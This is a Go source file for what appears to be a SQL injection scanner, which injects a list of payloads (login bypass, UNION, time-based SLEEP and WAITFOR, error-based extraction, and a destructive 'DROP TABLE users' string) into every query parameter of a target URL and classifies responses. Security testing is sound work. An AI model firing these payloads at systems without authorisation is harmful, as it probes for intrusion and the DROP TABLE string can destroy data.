package vulnscan

import (
	"context"
	"fmt"
	"net/url"
	"regexp"
	"strings"

	"github.com/go-resty/resty/v2"
	"go.uber.org/zap"

	"github.com/cyperhq/integration-engine/internal/domain"
)

var sqliPayloads = []string{
	"' OR '1'='1",
	"' OR '1'='1' --",
	"' OR '1'='1' /*",
	"admin' --",
	"admin' #",
	"admin'/*",
	"' UNION SELECT NULL--",
	"' UNION SELECT NULL,NULL--",
	"' UNION SELECT NULL,NULL,NULL--",
	"' AND '1'='1",
	"' AND '1'='2",
	"' AND 1=1--",
	"' AND 1=2--",
	"' AND SLEEP(5)--",
	"' OR SLEEP(5)--",
	"; WAITFOR DELAY '0:0:5'--",
	"' AND 1=CONVERT(int, (SELECT @@version))--",
	"' AND extractvalue(1, concat(0x7e, version()))--",
	"1 OR 1=1",
	"1' OR '1'='1",
	"1) OR (1=1",
	"'; DROP TABLE users--",
}

var sqlErrorPatterns = []*regexp.Regexp{
	regexp.MustCompile(`(?i)SQL syntax.*MySQL`),
	regexp.MustCompile(`(?i)Warning.*mysql_`),
	regexp.MustCompile(`(?i)MySQLSyntaxErrorException`),
	regexp.MustCompile(`(?i)PostgreSQL.*ERROR`),
	regexp.MustCompile(`(?i)Warning.*pg_`),
	regexp.MustCompile(`(?i)valid PostgreSQL result`),
	regexp.MustCompile(`(?i)Npgsql\.`),
	regexp.MustCompile(`(?i)PG::SyntaxError:`),
	regexp.MustCompile(`(?i)org\.postgresql\.util\.PSQLException`),
	regexp.MustCompile(`(?i)ERROR.*SQLite`),
	regexp.MustCompile(`(?i)Warning.*SQLite3::`),
	regexp.MustCompile(`(?i)System\.Data\.SqlClient\.SqlException`),
	regexp.MustCompile(`(?i)Microsoft.*SQL Native Client error`),
	regexp.MustCompile(`(?i)\[SQL Server\]`),
	regexp.MustCompile(`(?i)ODBC SQL Server Driver`),
	regexp.MustCompile(`(?i)SQLServer JDBC Driver`),
	regexp.MustCompile(`(?i)Oracle.*error`),
	regexp.MustCompile(`ORA-[0-9]{5}`),
}

var sqliSeverity = map[string]string{
	"error_based":      "high",
	"union_based":      "critical",
	"boolean_based":    "high",
	"time_based_blind": "high",
}

// SQLiTester probes URL query parameters for SQL injection.
type SQLiTester struct {
	client *resty.Client
	logger *zap.Logger
}

func NewSQLiTester(client *resty.Client, logger *zap.Logger) *SQLiTester {
	if client == nil {
		client = resty.New()
	}
	client.SetTimeout(defaultScanTimeout)
	if logger == nil {
		logger = zap.NewNop()
	}

	return &SQLiTester{client: client, logger: logger}
}

// TestURL injects every payload into each query parameter of rawURL
// and reports findings. A URL without query parameters yields an empty
// result.
func (t *SQLiTester) TestURL(ctx context.Context, rawURL string) (*Result, error) {
	parsed, err := url.Parse(rawURL)
	if err != nil || !parsed.IsAbs() {
		return nil, fmt.Errorf("%w: target must be an absolute URL", domain.ErrValidation)
	}

	result := &Result{URL: rawURL, Vulnerabilities: []Vulnerability{}}

	params := parsed.Query()
	if len(params) == 0 {
		return result, nil
	}

	baseline, err := t.fetch(ctx, rawURL)
	if err != nil {
		return nil, fmt.Errorf("failed to fetch baseline: %w", err)
	}
	baselineLength := len(baseline.String())

	for param := range params {
		for _, payload := range sqliPayloads {
			testURL := injectQueryParam(parsed, param, payload)

			response, err := t.fetch(ctx, testURL)
			if err != nil {
				// A timeout on a sleep payload is itself a signal.
				if isSleepPayload(payload) {
					result.Vulnerabilities = append(result.Vulnerabilities, Vulnerability{
						Parameter:       param,
						Payload:         payload,
						DetectionMethod: "time_based_blind",
						Severity:        sqliSeverity["time_based_blind"],
						Evidence:        "request timed out",
					})
				}
				continue
			}

			method := analyzeSQLiResponse(response.String(), response.StatusCode(), baselineLength, payload)
			if method == "" {
				continue
			}

			result.Vulnerabilities = append(result.Vulnerabilities, Vulnerability{
				Parameter:       param,
				Payload:         payload,
				DetectionMethod: method,
				Severity:        sqliSeverity[method],
				Evidence:        truncateEvidence(response.String()),
			})
		}
	}

	result.Vulnerable = len(result.Vulnerabilities) > 0
	if result.Vulnerable {
		t.logger.Warn("sql injection detected",
			zap.String("url", rawURL),
			zap.Int("findings", len(result.Vulnerabilities)),
		)
	}
	return result, nil
}

func (t *SQLiTester) fetch(ctx context.Context, target string) (*resty.Response, error) {
	return t.client.R().SetContext(ctx).Get(target)
}

func analyzeSQLiResponse(body string, statusCode, baselineLength int, payload string) string {
	for _, pattern := range sqlErrorPatterns {
		if pattern.MatchString(body) {
			return "error_based"
		}
	}

	lengthDiff := len(body) - baselineLength
	if lengthDiff < 0 {
		lengthDiff = -lengthDiff
	}
	if lengthDiff > 100 {
		return "boolean_based"
	}

	if strings.Contains(payload, "UNION") && statusCode == 200 &&
		len(body) > baselineLength*3/2 {
		return "union_based"
	}

	return ""
}

func isSleepPayload(payload string) bool {
	return strings.Contains(payload, "SLEEP") || strings.Contains(payload, "WAITFOR")
}

func injectQueryParam(parsed *url.URL, param, payload string) string {
	injected := *parsed
	query := parsed.Query()
	query.Set(param, payload)
	injected.RawQuery = query.Encode()
	return injected.String()
}
